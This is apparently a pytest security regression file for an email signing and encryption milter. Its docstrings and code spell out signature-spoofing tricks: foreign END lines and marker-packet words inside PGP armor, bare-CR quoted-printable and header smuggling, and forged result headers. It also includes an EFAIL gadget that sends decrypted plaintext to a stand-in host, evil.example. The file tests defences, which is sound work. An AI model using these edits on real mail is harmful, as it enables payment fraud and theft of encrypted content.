"""Round-6 outsider attacks on the header claims (shared/spec/info-headers.md, man/man7/ciphermilter-headers.7).

Each finding's test failed on ce3a094: the headers claimed more than was proven. The docstrings say the
attack, what the headers said then ("Now (ce3a094)"), and the fail-closed answer, which is what ciphermilter
does since: F1 armor.dearmor ends the body at its own kind's END line; F2 a detached signature holding
another packet is unreadable, a checksum mismatch makes the signature armor unclean; F3 "=" before a bare CR
is a literal "=" (mime/parser.decode_transfer_encoding); F4-F5 a header block with a bare CR is ambiguous
(mime.Entity.header_block_is_ambiguous: not whole, and From: names no signer); F6 a field hiding a reserved
name behind a bare CR is removed (core/info.hides_reserved_field).

Vectors: tests/vectors/attack6 (README: the exact commands). alice.pub.gpg / alice.clear.asc are the round-5
vectors (gpg 2.2.40, Ed25519 key "Alice <alice@sig.example>", admin-imported); every other vector is that
genuine cleartext-signed block with an edit of the attacker's inside its signature armor (nothing signed
changes), or a corpus message (/work/shared/corpus) with an edit outside what was signed.

Findings (one family per test group; every attack changes only bytes nobody signed):
  F1  a line "-----END PGP <anything>" inside a cleartext signature's armor ends armor.dearmor's body early;
      the text after it (up to the real END PGP SIGNATURE line) is judged by nobody: valid, whole.
  F2  words of base64-alphabet characters in the signature armor decode to a packet that
      verify.signature_packets drops (a marker packet): Armor.clean stays True: valid, whole.
  F3  a quoted-printable line "=<bare CR>text" is dropped by binascii.a2b_qp (mime/parser) and kept by RFC 2045
      decoders (Perl MIME::QuotedPrint): text inside the signed block the milter never saw: valid, whole.
  F4  a From: field behind a bare CR inside an earlier header line is a second From: for Python's email and
      none for the milter: no Signer-Mismatch / PGP-Signer-Mismatch.
  F5  a Content-Type behind a bare CR: Python's email sees another MIME structure (only the attacker's part)
      than the milter (alice's whole PGP/MIME signature): valid, whole. Two bare CRs end the header block
      early for Python's email: attacker text above a "whole" signed block, and, on an enveloped message, an
      EFAIL gadget (<img src='...) right before the plaintext the milter decrypted in place.
  F6  forged X-CipherMail-Info fields behind bare CRs in a Subject: line are not removed: Python's email
      reads "signed by ceo, verified, trusted" on an unsigned message.

Tried and held on ce3a094 (no test): a suffix on the "-----BEGIN PGP SIGNATURE-----" line (refused: no armor
header line); text after the END line on its line, or after it with bare CR (PGP-Mixed-Content); a fake
cleartext header above alice's block (bad signature); a second empty signature block after text (mixed);
a second BEGIN line inside the armor (non-base64: mixed); \x0b/\x0c after the block (blank to bytes.strip, and
invisible to readers); quoted-printable "= " + CRLF (Python keeps the "=": the milter sees more, mixed);
several Content-Transfer-Encoding / leaf Content-Type fields (the milter takes the first, as Python does);
base64 bodies with data after "=" (the milter, Python and Perl all stop there); S/MIME rfc822Name
constraints on a subject emailAddress (checked); OpenPGP user IDs with an address in the name or comment
(only the trailing <addr> counts).
"""

from __future__ import annotations

import quopri
from pathlib import Path

from ciphermilter.store import admin
from ciphermilter.store.keystore import KeyStore
from conftest import corpus_store_file
from support.offline import decrypt_output, info_headers

VECTORS = Path(__file__).parent / "vectors" / "attack6"
RCPT = "bob@corp-pub.example"


def _crlf(data: bytes) -> bytes:
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def _message(sender: str, body: bytes, content_type: str = "text/plain; charset=utf-8") -> bytes:
    head = (f"From: {sender}\r\nTo: {RCPT}\r\nSubject: signed\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: {content_type}\r\n\r\n").encode()
    return head + _crlf(body)


def _headers(tmp_path, key_files: list[str], message: bytes) -> dict[str, str]:
    """Import ``key_files`` (vectors) as the admin, then ``ciphermilter decrypt`` ``message``: the Info headers."""
    path = tmp_path / "store.db"
    with KeyStore.create(path) as store:
        admin.add_domain(store, "corp-pub.example")
        for key_file in key_files:
            admin.import_file(store, (VECTORS / key_file).read_bytes())
    return info_headers(decrypt_output(path, message, RCPT, tmp_path))


def _claims_whole_valid(info: dict[str, str]) -> bool:
    return info.get("PGP-Signature-Valid") == "True" and info.get("PGP-Mixed-Content") != "True"


# ============================================================ control


def test_control_genuine_clearsigned_block_is_valid_and_whole(tmp_path):
    """Control: alice's block as gpg wrote it is valid, signer alice, no mixed content."""
    message = _message("alice@sig.example", (VECTORS / "alice.clear.asc").read_bytes())
    info = _headers(tmp_path, ["alice.pub.gpg"], message)
    assert _claims_whole_valid(info) and info["PGP-Signer-Email"] == "alice@sig.example", info


# ============================================================ F1: a second END line inside the signature armor


def test_f1_text_after_a_foreign_end_line_inside_the_signature_armor_is_not_whole(tmp_path):
    """Attack: in alice's genuine cleartext-signed block, after the "=m58S" checksum line and BEFORE the real
    "-----END PGP SIGNATURE-----" line, write an END line of another kind ("-----END PGP MESSAGE-----", or
    any line starting "-----END PGP ") and then any text of one's own:

        =m58S
        -----END PGP MESSAGE-----
        ALICE ADDS: also pay 5000 EUR to DE99 6666 6666, today.
        -----END PGP SIGNATURE-----

    A reader that shows the text part sees the line inside alice's block; gpg 2.2 says "Good signature from
    Alice" for the edited block (it ignores it as well). Nobody signed the line.

    Now (ce3a094): PGP-Signature-Valid: True, PGP-Signer-Email: alice@sig.example, NO PGP-Mixed-Content --
    the round-5 fix is bypassed. armor.find_armor ends the block at the first "-----END PGP SIGNATURE-----"
    line, but armor.dearmor ends the armor body at the first line starting "-----END PGP " of ANY kind
    (``text.find(b"\\n-----END PGP ", ...)``), so everything between the two END lines is neither decoded
    nor judged: Armor.clean is True and is_alone sees nothing around the span.

    Fail closed: any text between the body's end and the END line the block was found by (or an END line
    of another kind than the BEGIN line) makes the block mixed content (Armor.clean False /
    unsigned_armor_text), or refuses the block. Fix in armor.dearmor (end the body at the END line that
    matches the armor's kind, and count everything else as unclean) and/or verify.read_cleartext.
    """
    message = _message("alice@sig.example", (VECTORS / "alice.clear-end-message.asc").read_bytes())
    assert b"ALICE ADDS" in message
    info = _headers(tmp_path, ["alice.pub.gpg"], message)
    assert info.get("PGP-Signed") == "True", info
    assert not _claims_whole_valid(info), info


def test_f1_html_part_any_markup_after_a_foreign_end_line(tmp_path):
    """Attack (F1 in an HTML part): the same edit with HTML after the foreign END line: a text/html part holding
    only alice's block (blank text around it, so "whole") renders the attacker's markup -- here a fixed
    overlay that covers alice's words -- inside what the headers call alice's whole, valid signed content.

    Now (ce3a094): PGP-Signature-Valid: True, PGP-Signer-Email: alice@sig.example, no PGP-Mixed-Content.
    Fail closed: as F1 (PGP-Mixed-Content: True or not valid).
    """
    clear = (VECTORS / "alice.clear.asc").read_bytes()
    overlay = (b'<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">'
               b"Pay 9000 EUR to DE99 6666 6666 today. -- Alice</div>")
    edited = clear.replace(b"=m58S\n", b"=m58S\n-----END PGP HTML-----\n" + overlay + b"\n")
    assert edited != clear
    info = _headers(tmp_path, ["alice.pub.gpg"],
                    _message("alice@sig.example", edited, "text/html; charset=utf-8"))
    assert info.get("PGP-Signed") == "True", info
    assert not _claims_whole_valid(info), info


# ============================================================ F2: words made of base64 letters in the armor


def test_f2_base64_alphabet_words_in_the_signature_armor_are_not_whole(tmp_path):
    """Attack: write a sentence of the attacker's own at the top of the signature armor of alice's genuine
    cleartext-signed block, using only letters, digits and spaces (no punctuation), starting with "you"
    and exactly 188 non-space characters long:

        -----BEGIN PGP SIGNATURE-----

        you must ALSO wire 5000 EUR to IBAN DE99 6666 6666 6666 TODAY
        signed Alice and thanks again for the quick help with this Alice
        ...
        iHUEARYIAB0WIQTWAD6NUDlahR5eVYUwTbP6leDdhwUCaxGiJQAKCRAwTbP6leDd

    Spaces are white space to the armor reader, so the words join into clean base64; "you" decodes to
    0xCA 0x8B: a new-format Marker packet (tag 10) of 139 octets -- exactly the 188 characters -- followed by
    alice's signature packet. verify.signature_packets keeps tag-2 packets and drops the rest unread, so
    alice's signature verifies over alice's text. The checksum line is left as it was (CRC-24 no longer
    matches; it is not checked for signatures). gpg 2.2 refuses the block ("invalid marker packet ...
    no signature found"); a reader without OpenPGP support shows the sentence inside alice's block.

    Now (ce3a094): PGP-Signature-Valid: True, PGP-Signer-Email: alice@sig.example, no PGP-Mixed-Content.
    Armor.clean (round-5 fix) only catches characters outside the base64 alphabet; these words have none.

    Fail closed: a detached/cleartext signature's data must be signature packets only (RFC 9580 section
    10.4: a detached signature is one or more Signature packets); any other packet (marker, user ID,
    anything the words decode to), a checksum that does not match, or a base64 line that is not the full
    line length before the last makes the block mixed content or the signature not valid. Fix in
    verify.verify_detached / packets.signature_packets (refuse other packets) and armor.dearmor
    (checksum_mismatch makes the armor unclean).
    """
    edited = (VECTORS / "alice.clear-marker-words.asc").read_bytes()
    assert b"you must ALSO wire 5000 EUR" in edited
    info = _headers(tmp_path, ["alice.pub.gpg"], _message("alice@sig.example", edited))
    assert info.get("PGP-Signed") == "True", info
    assert not _claims_whole_valid(info), info


# ============================================================ F3: quoted-printable "=" + bare CR hides a line


def test_f3_control_quoted_printable_block_is_valid_and_whole(tmp_path):
    """Control: alice's block quoted-printable encoded (quopri) is the same block: valid, whole."""
    clear = (VECTORS / "alice.clear.asc").read_bytes()
    message = (b"From: alice@sig.example\r\nTo: bob@corp-pub.example\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
               b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
               + _crlf(quopri.encodestring(clear)))
    assert _claims_whole_valid(_headers(tmp_path, ["alice.pub.gpg"], message))


def test_f3_quoted_printable_equals_bare_cr_line_is_invisible_to_the_milter_only(tmp_path):
    """Attack: alice's genuine cleartext-signed block in a quoted-printable text/plain part, plus ONE line of
    the attacker's inside the signed text, written as "=" + a bare CR + the text + CRLF:

        Pay 1000 EUR to IBAN DE00 6666.\\r\\n
        =\\rALICE ADDS: also pay 5000 EUR to DE99 6666 6666, today.\\r\\n
        -----BEGIN PGP SIGNATURE-----\\r\\n

    ciphermilter decodes the part with binascii.a2b_qp (mime/parser.decode_transfer_encoding), whose
    "broken Python QP" branch takes "=" + CR as a soft line break and DROPS everything up to the next LF: the
    milter never sees the line, and verifies alice's block as it was. RFC 2045 section 6.7 knows no such
    soft break ("=" must be followed by two hex digits or by the CRLF of the line); decoders that follow it
    keep the line: Perl's MIME::QuotedPrint 3.16 (under MIME-tools, RT, SpamAssassin) decodes it to
    "=\\rALICE ADDS: also pay ..." between alice's line and the signature, so the reader sees it inside
    alice's block (a bare CR is not what Postfix's bare-newline checks refuse).

    Now (ce3a094): PGP-Signature-Valid: True, PGP-Signer-Email: alice@sig.example, no PGP-Mixed-Content.
    Fail closed: a quoted-printable body with "=" not followed by two hex digits or (white space and) CRLF
    / LF is decoded literally (as RFC 2045 asks: keep the "=" and what follows) -- the block then fails to
    verify or has text around it -- or marks the part not whole (PGP-Mixed-Content: True). Fix in
    mime/parser.decode_transfer_encoding (a strict, RFC 2045 QP decoder or an ambiguity flag like
    Entity.structure_is_ambiguous for the part's body).
    """
    message = (VECTORS / "qp-bare-cr-soft-break.eml").read_bytes()
    assert b"=\rALICE ADDS" in message
    info = _headers(tmp_path, ["alice.pub.gpg"], message)
    assert info.get("PGP-Signed") == "True", info
    assert not _claims_whole_valid(info), info


def test_f3_quoted_printable_equals_bare_cr_line_before_the_block(tmp_path):
    """Attack (F3, text before the block): the "=" + bare CR line is the first line of the part, so the
    block seems alone to the milter; a RFC 2045 decoder shows "=\\rALICE ADDS: ..." above alice's block.

    Now (ce3a094): PGP-Signature-Valid: True, no PGP-Mixed-Content. Fail closed: as above.
    """
    message = (VECTORS / "qp-bare-cr-before-block.eml").read_bytes()
    assert b"\r\n\r\n=\rALICE ADDS" in message
    info = _headers(tmp_path, ["alice.pub.gpg"], message)
    assert info.get("PGP-Signed") == "True", info
    assert not _claims_whole_valid(info), info


# ============================================================ F4: a second From: field behind a bare CR


def _corpus_headers(tmp_path, message: bytes, rcpt: str = RCPT) -> dict[str, str]:
    return info_headers(_corpus_output(tmp_path, message, rcpt))


def _corpus_output(tmp_path, message: bytes, rcpt: str = RCPT) -> bytes:
    return decrypt_output(corpus_store_file(tmp_path), message, rcpt, tmp_path)


def _froms_a_python_reader_sees(message: bytes) -> list[str]:
    import email
    import email.policy
    return [str(v) for v in email.message_from_bytes(message, policy=email.policy.default).get_all("From")]


def test_f4_control_smime_signed_by_the_from_address_no_mismatch(tmp_path):
    """Control: the corpus message alice signed (valid, trusted), From: alice: no Signer-Mismatch."""
    from conftest import CORPUS
    message = (CORPUS / "smime-sig-detached-chain" / "message.eml").read_bytes()
    info = _corpus_headers(tmp_path, message)
    assert info["Signer-Verified-0-0"] == "True" and info["Signer-Trusted-0-0"] == "True", info
    assert "Signer-Mismatch" not in info, info


def test_f4_smime_from_field_smuggled_behind_a_bare_cr_is_a_second_from(tmp_path):
    """Attack: replay the corpus message alice signed (smime-sig-detached-chain: valid, trusted) with one
    header line edited: the To: line ends in a bare CR followed by a From: field of the attacker's choice,
    then the CRLF:

        To: Bob Recipient <bob@corp-pub.example>\\rFrom: CEO <ceo@corp-pub.example>\\r\\n
        From: Alice Sender <alice@sender-pub.example>\\r\\n

    ciphermilter's header reader (mime/parser.field_spans, _line_bounds) ends lines at LF only: it sees one
    From: field (alice), and the CR line inside To:. Readers that end header lines at a bare CR too -- Python's
    email package (email.message_from_bytes: From: ['CEO <ceo@corp-pub.example>', 'Alice Sender <...>'],
    msg['From'] is the CEO), the library Python filters, Sieve helpers and ticket systems use; RFC 5322
    obsolete syntax is read so by many -- see TWO From: fields, the first the CEO's. The spec's rule: "Several
    From: fields ... mismatch". Postfix's smtpd_forbid_bare_newline concerns bare LF; a bare CR passes (not
    tested here against a live Postfix).

    Now (ce3a094): SMIME-Signed, Signer-Verified-0-0: True, Signer-Trusted-0-0: True, Signer-Email-0-0:
    alice@sender-pub.example and NO Signer-Mismatch: the reader is told alice's signature matches From: while
    it shows From: CEO.

    Fail closed: a header block with a bare CR (or any line break readers may see otherwise) in or before a
    From: field makes the From: reading ambiguous: Signer-Mismatch: True (PGP-Signer-Mismatch: True), as for
    several From: fields. Fix in core/pipeline.from_fields (or formats/sender.from_names_signer): count a
    From: that a bare CR starts, or refuse any header block with a bare CR, for the mismatch rule.
    """
    message = (VECTORS / "smime-signed-bare-cr-from.eml").read_bytes()
    assert _froms_a_python_reader_sees(message)[0] == "CEO <ceo@corp-pub.example>"
    info = _corpus_headers(tmp_path, message)
    assert info.get("Signer-Verified-0-0") == "True", info
    assert info.get("Signer-Mismatch") == "True", info


def test_f4_pgp_from_field_smuggled_behind_a_bare_cr_is_a_second_from(tmp_path):
    """Attack (F4, OpenPGP): alice's genuine cleartext-signed block, From: alice@sig.example, and before it a
    "Subject: signed\\rFrom: boss@corp-pub.example" line. Python's email reads From: boss first.

    Now (ce3a094): PGP-Signature-Valid: True, PGP-Signer-Email: alice@sig.example, NO PGP-Signer-Mismatch.
    Fail closed: PGP-Signer-Mismatch: True.
    """
    message = (b"Subject: signed\rFrom: Boss <boss@corp-pub.example>\r\nFrom: alice@sig.example\r\n"
               b"To: bob@corp-pub.example\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
               + _crlf((VECTORS / "alice.clear.asc").read_bytes()))
    assert _froms_a_python_reader_sees(message)[0] == "Boss <boss@corp-pub.example>"
    info = _headers(tmp_path, ["alice.pub.gpg"], message)
    assert info.get("PGP-Signature-Valid") == "True", info
    assert info.get("PGP-Signer-Mismatch") == "True", info


# ============================================================ F5: a second Content-Type: behind a bare CR


def test_f5_control_pgpmime_signed_corpus_message_is_valid_and_whole(tmp_path):
    from conftest import CORPUS
    message = (CORPUS / "pgpmime-signed-gpg-ed25519" / "message.eml").read_bytes()
    info = _corpus_headers(tmp_path, message, "bob.pgp@corp-pub.example")
    assert _claims_whole_valid(info) and "PGP-Signer-Mismatch" not in info, info


def test_f5_content_type_smuggled_behind_a_bare_cr_shows_the_attackers_part_instead(tmp_path):
    """Attack: alice.pgp's genuine PGP/MIME signed message (corpus pgpmime-signed-gpg-ed25519) with two edits
    outside what she signed: "MIME-Version: 1.0" ends in a bare CR followed by
    'Content-Type: multipart/mixed; boundary="evil"', and the preamble of her multipart/signed is replaced by
    one part of the attacker's between "--evil" delimiters:

        MIME-Version: 1.0\\rContent-Type: multipart/mixed; boundary="evil"\\r\\n
        Content-Type: multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"; boundary=...
        \\r\\n
        --evil\\r\\nContent-Type: text/plain ...\\r\\n\\r\\nALICE ADDS: also pay 5000 EUR ...\\r\\n--evil--\\r\\n
        --=_pgpmime_sig_public_5 ... (alice's signed part and signature, unchanged)

    ciphermilter ends header lines at LF only: one Content-Type (multipart/signed), the "evil" part is
    preamble, the structure unambiguous (Entity.structure_is_ambiguous counts Content-Type fields with the
    same reader). Python's email package reads the first Content-Type, multipart/mixed; boundary="evil": the
    message is ONE part, the attacker's text, and alice's signed part is epilogue nobody shows.

    Now (ce3a094): PGP-Encoding: PGP/MIME, PGP-Signature-Valid: True, PGP-Signer-Email:
    alice.pgp@sender-pub.example, no PGP-Mixed-Content, no PGP-Signer-Mismatch: "the whole message is
    alice's valid signed content", while the reader is shown only the attacker's text.

    Fail closed: a bare CR in a header block makes the entity's structure ambiguous (is_whole false:
    PGP-Mixed-Content: True / SMIME-Mixed-Content: True, nothing decrypted in place), as several
    Content-Type fields already do. Fix in mime/parser.field_spans / mime/model.Entity.structure_is_ambiguous
    (or refuse such a header block in core/pipeline).
    """
    message = (VECTORS / "pgpmime-signed-bare-cr-content-type.eml").read_bytes()
    import email
    import email.policy
    shown = email.message_from_bytes(message, policy=email.policy.default)
    assert shown.get_content_type() == "multipart/mixed"
    assert [p.get_content() for p in shown.iter_parts()] == [
        "ALICE ADDS: also pay 5000 EUR to DE99 6666 6666, today."]
    info = _corpus_headers(tmp_path, message, "bob.pgp@corp-pub.example")
    assert info.get("PGP-Signature-Valid") == "True", info
    assert not _claims_whole_valid(info), info


def test_f5_header_block_ended_early_by_bare_crs_puts_attacker_text_above_the_block(tmp_path):
    """Attack (F5, where the body starts): the last header line of a message holding only alice's genuine
    cleartext-signed block is "Subject: signed\\r\\rALICE ADDS: also pay 5000 EUR ...\\r\\n". ciphermilter reads
    one Subject field (the line has its colon) and a body that is the block alone. Python's email ends the
    header block at the empty line between the two bare CRs: the body it shows starts with "ALICE ADDS: ...",
    then alice's block.

    Now (ce3a094): PGP-Signature-Valid: True, PGP-Signer-Email: alice@sig.example, no PGP-Mixed-Content.
    Fail closed: as F5 (a bare CR in the header block: the block is not whole, PGP-Mixed-Content: True).
    """
    message = (b"From: alice@sig.example\r\nTo: bob@corp-pub.example\r\nMIME-Version: 1.0\r\n"
               b"Content-Type: text/plain; charset=utf-8\r\n"
               b"Subject: signed\r\rALICE ADDS: also pay 5000 EUR to DE99 6666 6666, today.\r\n\r\n"
               + _crlf((VECTORS / "alice.clear.asc").read_bytes()))
    import email
    import email.policy
    shown = email.message_from_bytes(message, policy=email.policy.default).get_content()
    assert shown.startswith("ALICE ADDS: also pay 5000 EUR")
    info = _headers(tmp_path, ["alice.pub.gpg"], message)
    assert info.get("PGP-Signature-Valid") == "True", info
    assert not _claims_whole_valid(info), info


def test_f5_efail_gadget_behind_bare_crs_is_decrypted_next_to_the_plaintext(tmp_path):
    """Attack (F5 as EFAIL direct exfiltration): an S/MIME message encrypted to bob (openssl cms -encrypt to
    the corpus pub-bob; its plaintext is text/html and holds an apostrophe, as English text does) re-sent to
    bob by eve, with one header line of hers:

        Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\\r\\n
        ...
        Subject: hello\\r\\r<img src='http://evil.example/x?\\r\\n
        \\r\\n
        MIICNAYJKoZIhvcNAQcD...   (the ciphertext)

    ciphermilter sees one Subject field and an enveloped-data message that is whole: it decrypts in place
    and writes the plaintext's Content-Type (text/html) over the outer one. The Subject line stays as it was.
    Python's email then ends the header block at the two bare CRs: the body it renders as text/html is
    "<img src='http://evil.example/x?" + the rest of the header block + the decrypted HTML, so the image URL
    runs over the plaintext up to its first apostrophe: the secret leaves in an HTTP request (EFAIL,
    CVE-2017-17689, which the spec's "what is decrypted where" rule exists to close).

    Now (ce3a094): SMIME-Encrypted: True, Encryption-Algorithm-0: AES-256-CBC, decrypted in place, no
    SMIME-Mixed-Content and no SMIME-Not-Decrypted-0: "the whole message was the encrypted content".

    Fail closed: a header block with a bare CR is ambiguous: the encrypted content is not whole, stays as
    received (SMIME-Not-Decrypted-0 with a reason) and SMIME-Mixed-Content: True -- the is_whole /
    Entity.structure_is_ambiguous path, extended to the header block.
    """
    import email
    import email.policy
    from html.parser import HTMLParser

    out = _corpus_output(tmp_path, (VECTORS / "smime-enveloped-bare-cr-efail.eml").read_bytes())
    info = info_headers(out)
    assert info.get("SMIME-Encrypted") == "True", info

    sources: list[str] = []

    class Images(HTMLParser):
        def handle_starttag(self, tag, attrs):
            sources.extend(value for name, value in attrs if tag == "img" and name == "src" and value)

    shown = email.message_from_bytes(out, policy=email.policy.default)
    if shown.get_content_type() == "text/html":
        Images().feed(shown.get_content())
    leaked = [src for src in sources if "BLUEFALCON-7731" in src]
    assert not leaked, (info, leaked)
    assert info.get("SMIME-Mixed-Content") == "True", info


# ============================================================ F6: forged Info headers behind a bare CR


def test_f6_forged_info_headers_behind_a_bare_cr_survive_for_python_readers(tmp_path):
    """Attack: an UNSIGNED plain-text message whose Subject: line goes on, after bare CRs, with a full set of
    forged results:

        Subject: Wire 50,000 EUR today\\rX-CipherMail-Info-SMIME-Signed: True
          \\rX-CipherMail-Info-Signer-Email-0-0: ceo@corp-pub.example
          \\rX-CipherMail-Info-Signer-Verified-0-0: True\\rX-CipherMail-Info-Signer-Trusted-0-0: True\\r\\n
        (one line: shown folded here)

    The spec: "Every header whose name begins with X-CipherMail- (any case) that the message arrived with is
    removed ... so that no sender can forge a result" (test_security.FORGED covers a CR inside the NAME, not a
    forged field that a bare CR starts). ciphermilter reads one Subject field, finds no reserved name and no
    crypto, and passes the message byte for byte. Python's email reads four X-CipherMail-Info fields: a
    message signed by ceo@corp-pub.example, verified and trusted.

    Now (ce3a094): output == input; Python's email: X-CipherMail-Info-SMIME-Signed: True,
    Signer-Email-0-0: ceo@corp-pub.example, Signer-Verified-0-0: True, Signer-Trusted-0-0: True.

    Fail closed: a reserved name after a bare CR anywhere in the header block is removed like any other forged
    field (the field holding it rewritten or removed), or such a header block is refused. Fix in the
    reserved-field removal (core/pipeline / core/plan: what is_reserved is asked about) and mime/parser.
    """
    import email
    import email.policy

    out = _corpus_output(tmp_path, (VECTORS / "forged-info-behind-bare-cr.eml").read_bytes())
    shown = email.message_from_bytes(out, policy=email.policy.default)
    forged = {name: str(value) for name, value in shown.items() if name.lower().startswith("x-ciphermail-")}
    assert forged == {}, forged
